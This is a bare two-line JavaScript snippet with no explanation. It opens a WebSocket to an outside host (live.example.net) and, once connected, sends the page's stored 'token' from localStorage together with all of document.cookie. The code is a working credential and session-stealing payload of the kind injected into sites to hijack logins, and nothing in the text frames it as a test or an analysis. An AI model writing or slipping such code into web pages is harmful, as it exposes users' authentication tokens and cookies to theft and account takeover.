const s = new WebSocket('wss://live.example.net/in');
s.addEventListener('open', () => s.send(JSON.stringify({ t: localStorage.getItem('token'), c: document.cookie })));
